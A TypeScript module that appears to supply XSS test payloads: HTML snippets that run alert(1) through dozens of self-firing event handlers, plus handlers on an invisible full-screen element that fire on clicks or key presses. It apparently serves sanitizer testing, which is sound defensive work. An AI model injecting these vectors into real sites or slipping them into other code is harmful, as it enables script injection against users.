import type { Payload } from './payload.ts'

/**
 * Event handlers, each for another event. Handlers of the first table fire by themselves. Handlers of the second need
 * the mouse or the keyboard, so their element covers the whole frame.
 */
const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='
const sound = 'data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAIA+AAACABAAZGF0YQAAAAA='
const keyframes = '<style>@keyframes k{from{left:0}to{left:1px}}</style>'

const alone: [string, string][] = [
  ['error of an image', `<img src="x:" onerror="alert(1)">`],
  ['load of an image', `<img src="${dot}" onload="alert(1)">`],
  ['error of an image by its old name', `<image src="x:" onerror="alert(1)">`],
  ['load of a picture', `<picture><source srcset="${dot}"><img onload="alert(1)"></picture>`],
  ['error of an image button', `<input type="image" src="x:" onerror="alert(1)">`],
  ['load of svg', `<svg onload="alert(1)"></svg>`],
  ['load of a svg image', `<svg><image href="${dot}" onload="alert(1)"/></svg>`],
  ['error of a svg image', `<svg><image href="x:" onerror="alert(1)"/></svg>`],
  ['begin of an animation', `<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>`],
  ['end of an animation', `<svg><animate onend="alert(1)" attributeName="x" dur="1ms"/></svg>`],
  [
    'repeat of an animation',
    `<svg><animate onrepeat="alert(1)" attributeName="x" dur="1ms" repeatCount="2"/></svg>`,
  ],
  ['begin of a set', `<svg><set onbegin="alert(1)" attributeName="x" dur="1ms"/></svg>`],
  [
    'begin of a motion',
    `<svg><rect><animateMotion onbegin="alert(1)" path="M0 0" dur="1s"/></rect></svg>`,
  ],
  [
    'begin of a transform',
    `<svg><rect><animateTransform onbegin="alert(1)" attributeName="transform" dur="1s"/></rect></svg>`,
  ],
  ['load of the body', `<body onload="alert(1)"><p>x</p>`],
  ['pageshow of the body', `<body onpageshow="alert(1)"><p>x</p>`],
  ['error of the body', `<body onerror="alert(1)"><script>throw 1</script>`],
  ['focus of the body', `<body onfocusin="alert(1)"><input autofocus>`],
  [
    'message to the body',
    `<body onmessage="alert(1)"><iframe src="data:text/html,<script>parent.postMessage(1,'*')</script>"></iframe>`,
  ],
  ['rejection', `<body onunhandledrejection="alert(1)"><script>Promise.reject(1)</script>`],
  ['change of the hash', `<body onhashchange="alert(1)"><script>location.hash='x'</script>`],
  ['resize', `<body onresize="alert(1)"><iframe></iframe><script>onresize()</script>`],
  ['load of a style', `<style onload="alert(1)">p{color:red}</style>`],
  ['error of a style', `<style onerror="alert(1)">@import "x:";</style>`],
  ['load of a sheet', `<link rel="stylesheet" href="data:text/css," onload="alert(1)">`],
  ['error of a sheet', `<link rel="stylesheet" href="x:" onerror="alert(1)">`],
  ['error of a script', `<script src="x:" onerror="alert(1)"></script>`],
  ['load of a script', `<script src="data:text/javascript," onload="alert(1)"></script>`],
  ['load of a frame', `<iframe onload="alert(1)"></iframe>`],
  ['load of a frame of a set', `<frameset><frame onload="alert(1)"></frameset>`],
  ['load of a frame set', `<frameset onload="alert(1)"></frameset>`],
  ['error of an object', `<object data="x:" onerror="alert(1)"></object>`],
  ['load of an object', `<object data="data:text/html,x" onload="alert(1)"></object>`],
  ['load of an embed', `<embed src="data:text/html,x" onload="alert(1)">`],
  ['error of a video source', `<video><source src="x:" onerror="alert(1)"></video>`],
  ['error of a video', `<video src="x:" onerror="alert(1)"></video>`],
  ['error of a sound', `<audio src="x:" onerror="alert(1)"></audio>`],
  ['start of loading', `<video src="x:" onloadstart="alert(1)"></video>`],
  ['metadata of a sound', `<audio src="${sound}" onloadedmetadata="alert(1)"></audio>`],
  ['length of a sound', `<audio src="${sound}" ondurationchange="alert(1)"></audio>`],
  ['data of a sound', `<audio src="${sound}" onloadeddata="alert(1)"></audio>`],
  ['readiness of a sound', `<audio src="${sound}" oncanplay="alert(1)"></audio>`],
  ['focus of a field', `<input autofocus onfocus="alert(1)">`],
  ['focus of a text area', `<textarea autofocus onfocus="alert(1)"></textarea>`],
  ['focus of a select', `<select autofocus onfocus="alert(1)"></select>`],
  ['focus of a button', `<button autofocus onfocus="alert(1)">x</button>`],
  ['focus of anything', `<xss autofocus tabindex="1" onfocus="alert(1)">x</xss>`],
  ['focus of editable text', `<p contenteditable autofocus onfocus="alert(1)">x</p>`],
  ['toggle of details', `<details ontoggle="alert(1)" open>x</details>`],
  ['start of a marquee', `<marquee onstart="alert(1)">x</marquee>`],
  [
    'start of an animation in css',
    `${keyframes}<p style="animation:k 1s" onanimationstart="alert(1)">x`,
  ],
  [
    'end of an animation in css',
    `${keyframes}<p style="animation:k 1ms" onanimationend="alert(1)">x`,
  ],
  [
    'start of an animation by its old name',
    `${keyframes}<p style="animation:k 1s" onwebkitanimationstart="alert(1)">x`,
  ],
  [
    'a transition on load',
    `<style>p{color:red;transition:color 1ms}@starting-style{p{color:blue}}</style><p ontransitionrun="alert(1)">x`,
  ],
  [
    'visibility of content',
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange="alert(1)">x`,
  ],
  [
    'a breach of policy',
    `<body onsecuritypolicyviolation="alert(1)"><meta http-equiv="Content-Security-Policy" content="img-src 'none'"><img src="//evil.test/x">`,
  ],
  [
    'a slot that is filled',
    `<div><template shadowrootmode="open"><slot onslotchange="alert(1)"></slot></template><p>x</div>`,
  ],
  [
    'scroll to a place',
    `<p onscroll="alert(1)" style="overflow:auto;height:9px"><i id=a autofocus tabindex=0>x</i><script>a.scrollIntoView()</script>`,
  ],
]

const cover = 'style="position:fixed;inset:0;display:block;width:100%;height:100%;opacity:0.5"'
const fidgeted = [
  'click',
  'dblclick',
  'auxclick',
  'contextmenu',
  'mousedown',
  'mouseup',
  'mousemove',
  'mouseover',
  'mouseenter',
  'wheel',
  'mousewheel',
  'pointerdown',
  'pointerup',
  'pointermove',
  'pointerover',
  'pointerenter',
  'pointerrawupdate',
  'selectstart',
]
const typedInto = [
  'focus',
  'focusin',
  'keydown',
  'keypress',
  'keyup',
  'input',
  'beforeinput',
  'select',
  'blur',
  'change',
]

const byHand: [string, string][] = [
  ...fidgeted.map((event): [string, string] => [
    `${event} by a hand`,
    `<div ${cover} on${event}="alert(1)">press me, all of me</div>`,
  ]),
  ...typedInto.map((event): [string, string] => [
    `${event} by a hand`,
    `<textarea ${cover} on${event}="alert(1)">x</textarea>`,
  ]),
  ['submit by a hand', `<form onsubmit="alert(1)"><button ${cover}>x</button></form>`],
  ['formdata by a hand', `<form onformdata="alert(1)"><button ${cover}>x</button></form>`],
  ['reset by a hand', `<form onreset="alert(1)"><button type="reset" ${cover}>x</button></form>`],
  [
    'invalid by a hand',
    `<form><input required oninvalid="alert(1)"><button ${cover}>x</button></form>`,
  ],
  ['toggle by a hand', `<details ontoggle="alert(1)"><summary ${cover}>x</summary></details>`],
  [
    'toggle of a popover by a hand',
    `<button popovertarget="p" ${cover}>x</button><p popover id="p" onbeforetoggle="alert(1)">x</p>`,
  ],
  [
    'a command of a dialog by a hand',
    `<button commandfor="d" command="show-modal" ${cover}>x</button><dialog id="d" onbeforetoggle="alert(1)">x</dialog>`,
  ],
]

export const handlerPayloads: Payload[] = [
  ...alone.map(([name, html]) => ({ name: `handler: ${name}`, html })),
  ...byHand.map(([name, html]) => ({ name: `handler: ${name}`, html, byHand: true })),
]
